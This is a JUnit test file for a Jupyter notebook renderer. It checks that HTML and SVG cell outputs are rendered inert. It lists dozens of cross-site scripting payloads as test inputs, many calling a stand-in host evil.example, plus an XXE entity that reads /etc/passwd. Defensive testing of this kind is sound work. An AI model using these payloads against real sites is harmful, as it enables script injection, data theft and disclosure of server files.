package org.ganbook.jupyter;

import static org.ganbook.jupyter.Notebook.KEYS;
import static org.ganbook.jupyter.Notebook.opened;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import org.ganbook.notebook.CellState;
import org.ganbook.notebook.Output;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.jsoup.parser.Parser;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/** Whatever stands in a file's outputs, nothing in what is shown or saved runs, loads or sends. */
class HostileOutputTest {

    private static final Set<String> HARMLESS = Set.of(
            "html",
            "head",
            "body",
            "meta",
            "title",
            "style",
            "main",
            "header",
            "section",
            "h1",
            "h2",
            "h3",
            "h4",
            "p",
            "pre",
            "code",
            "div",
            "span",
            "figure",
            "figcaption",
            "img",
            "strong",
            "em",
            "b",
            "i",
            "details",
            "summary",
            "table",
            "thead",
            "tbody",
            "tr",
            "td",
            "th",
            "ul",
            "ol",
            "li",
            "br",
            "hr",
            "sub",
            "sup",
            "a",
            "caption",
            "tfoot");

    private static ObjectNode cell(String kind) {
        ObjectNode cell = JsonMapper.shared().createObjectNode();
        cell.put("cell_type", kind).put("id", "a").putObject("metadata");
        return cell;
    }

    private static byte[] file(ObjectNode cell) {
        ObjectNode root = JsonMapper.shared().createObjectNode();
        root.put("nbformat", 4).put("nbformat_minor", 5).putArray("cells").add(cell);
        root.putObject("metadata").put("title", "<script>alert(1)</script>");
        return root.toString().getBytes(StandardCharsets.UTF_8);
    }

    private static JupyterReader.Opened withOutput(String kind, String content) {
        ObjectNode cell = cell("code");
        ArrayNode outputs = cell.put("source", content).putArray("outputs");
        outputs.addObject().put("output_type", "display_data").putObject("data").put(kind, content);
        outputs.addObject().put("output_type", "stream").put("name", "stdout").put("text", content);
        outputs.addObject().put("output_type", "error").put("ename", content).put("evalue", content);
        return opened(file(cell), content);
    }

    private static String page(JupyterReader.Opened opened) {
        Map<String, CellState> answers = opened.runs().entrySet().stream()
                .collect(Collectors.toMap(Map.Entry::getKey, run -> CellState.UNTOUCHED.with(run.getValue())));
        return new HtmlPage(KEYS, "en").write(opened.document(), answers);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<b>x</b><script src=https://evil.example/x.js></script>",
                "<table onmouseover=alert(1)><tr><td style='background:url(https://evil.example)'>1</td></tr></table>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)><script>alert(1)</script></svg>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<a href=javascript:alert(1)>x</a>",
                "<form action=https://evil.example><input name=x><button>go</button></form>",
                "<style>@import url(https://evil.example)</style><p>x</p>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<base href=https://evil.example>",
                "</pre></section><script>alert(1)</script>",
                "</title></style><script>alert(1)</script>",
                "\" onerror=\"alert(1)",
                "' autofocus onfocus='alert(1)",
                "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
                "<object data=javascript:alert(1)></object><embed src=x>",
                "<details open ontoggle=alert(1)>x</details>",
                "<!--><img src=x onerror=alert(1)>-->",
                "<video poster=https://evil.example autoplay></video>",
                "<link rel=stylesheet href=https://evil.example>",
                "<gb-cell></gb-cell><gb-import></gb-import>",
                "<div class=lab-bar id=content style='position:fixed;inset:0'>x</div>"
            })
    void htmlIsInert(String hostile) {
        for (String kind : Set.of("text/html", "text/plain", "text/markdown", "text/latex", "application/javascript")) {
            JupyterReader.Opened opened = withOutput(kind, hostile);
            assertHarmless(page(opened));
            for (Output output : Notebook.run(opened, "a").outputs()) {
                if (output instanceof Output.Result result) {
                    assertHarmless(result.html());
                }
            }
        }
        ObjectNode text = cell("markdown").put("source", hostile);
        assertHarmless(page(opened(file(text), "a")));
        assertHarmless(page(opened(file(cell("raw").put("source", hostile)), "a")));
    }

    private static void assertHarmless(String html) {
        for (Element element : Jsoup.parse(html).select("*")) {
            if (element.normalName().equals("#root")) {
                continue;
            }
            assertTrue(HARMLESS.contains(element.normalName()), element.outerHtml());
            for (Attribute attribute : element.attributes()) {
                String key = attribute.getKey();
                String value = attribute.getValue();
                assertTrue(
                        !key.startsWith("on")
                                && !(key.equals("http-equiv") && value.equals("refresh"))
                                && !(key.equals("src") && !value.startsWith("data:image/"))
                                && !(key.equals("href") && !value.matches("https?://.*|#text-.*"))
                                && !(key.equals("style") && !value.isEmpty())
                                && !key.equals("srcdoc")
                                && !key.equals("action"),
                        element.outerHtml());
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<svg onload='alert(1)'/>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><SCRIPT href='https://evil.example/x.js'/></svg>",
                "<svg xmlns:s='http://www.w3.org/2000/svg'><s:script>alert(1)</s:script></svg>",
                "<svg><foreignObject><iframe src='https://evil.example'/></foreignObject></svg>",
                "<svg><foreignobject><body onload='alert(1)'/></foreignobject></svg>",
                "<svg><a href='javascript:alert(1)'><text>x</text></a></svg>",
                "<svg xmlns:x='http://www.w3.org/1999/xlink'><a x:href='javascript:alert(1)'><text>x</text></a></svg>",
                "<svg><a><animate attributeName='href' values='javascript:alert(1)'/><text>x</text></a></svg>",
                "<svg><set attributeName='onload' to='alert(1)'/></svg>",
                "<svg><image href='https://evil.example/a.png'/></svg>",
                "<svg><image href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
                "<svg><use href='https://evil.example/a.svg#x'/></svg>",
                "<svg><style>@import 'https://evil.example';</style></svg>",
                "<svg><style>rect{fill:url(https://evil.example)}</style></svg>",
                "<svg><style>rect{fill:u\\72l(https://evil.example)}</style></svg>",
                "<svg><style><![CDATA[@import 'https://evil.example';]]></style></svg>",
                "<svg><rect style='fill:url(https://evil.example)'/></svg>",
                "<svg><rect fill='url(https://evil.example)'/></svg>",
                "<!DOCTYPE svg [<!ENTITY a 'b'><!ENTITY c SYSTEM 'file:///etc/passwd'>]><svg><text>&c;</text></svg>",
                "<?xml-stylesheet href='https://evil.example'?><svg/>",
                "<svg><iframe src='javascript:alert(1)'/><embed src='x'/><object data='x'/></svg>",
                "<svg><rect onmouseover='alert(1)' ONCLICK='alert(1)'/></svg>",
                "<svg><handler type='x'>alert(1)</handler></svg>",
            })
    void svgIsInert(String hostile) {
        JupyterReader.Opened opened = withOutput("image/svg+xml", hostile);
        Output.Figure figure =
                (Output.Figure) Notebook.run(opened, "a").outputs().getFirst();
        assertTrue(!figure.svg().contains("ENTITY") && !figure.svg().contains("stylesheet"), figure.svg());
        assertEquals(
                0,
                Jsoup.parse(figure.svg(), "", Parser.xmlParser())
                        .select("script")
                        .size());
        for (Element element : Jsoup.parse(figure.svg(), "", Parser.xmlParser()).select("svg, svg *")) {
            String name = element.tagName().replaceFirst(".*:", "").toLowerCase(Locale.ROOT);
            assertTrue(
                    !Set.of("script", "foreignobject", "iframe", "embed", "object", "set", "handler", "body")
                            .contains(name),
                    figure.svg());
            String css = element.data() + element.ownText();
            assertTrue(!name.equals("style") || !css.matches("(?s).*(@import|url|\\\\).*"), figure.svg());
            for (Attribute attribute : element.attributes()) {
                String key = attribute.getKey().toLowerCase(Locale.ROOT);
                boolean declares = key.startsWith("xmlns");
                assertTrue(
                        declares
                                || !key.startsWith("on")
                                        && !attribute.getValue().contains("evil.example")
                                        && !attribute.getValue().contains("javascript")
                                        && !attribute.getValue().contains("svg+xml"),
                        figure.svg());
            }
        }
        assertHarmless(page(opened));
        assertTrue(page(opened)
                .contains(Base64.getEncoder().encodeToString(figure.svg().getBytes(StandardCharsets.UTF_8))));
    }
}
